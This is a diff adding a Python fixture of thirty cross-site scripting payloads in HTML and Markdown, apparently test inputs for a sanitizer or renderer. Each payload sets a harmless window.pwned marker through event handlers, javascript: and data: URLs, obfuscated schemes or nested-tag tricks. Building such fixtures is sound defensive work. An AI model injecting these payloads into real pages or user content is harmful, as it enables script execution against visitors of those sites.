@@ -1,0 +1,36 @@
+"""Thirty texts that want to run a script in whoever's page shows them; each would set `window.pwned`."""
+
+RUN = "window.pwned=1"
+
+XSS = (
+    f"<script>{RUN}</script>",
+    f"<SCRIPT SRC=data:text/javascript,{RUN}></SCRIPT>",
+    f"<img src=x onerror={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{RUN}'></iframe>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<embed src='javascript:{RUN}'>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<form action='javascript:{RUN}'><button>x</button></form>",
+    f"<a href='javascript:{RUN}'>click</a>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<style>@import 'javascript:{RUN}';</style><link rel=stylesheet href='javascript:{RUN}'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<base href='javascript:{RUN}//'>",
+    f"<template><img src=x onerror={RUN}></template>",
+    f"[click](javascript:{RUN})",
+    f"[click](JaVaScRiPt&colon;{RUN})",
+    f"[click](&#x6A;avascript:{RUN})",
+    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
+    f"![x](https://elsewhere.invalid/x.png 'x\" onerror=\"{RUN}')",
+    f"<javascript:{RUN}>",
+    f'```"><img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```',
+    f"| a |\n|---|\n| `</code><img src=x onerror={RUN}>` <b onmouseover={RUN}>x</b> |",
+)
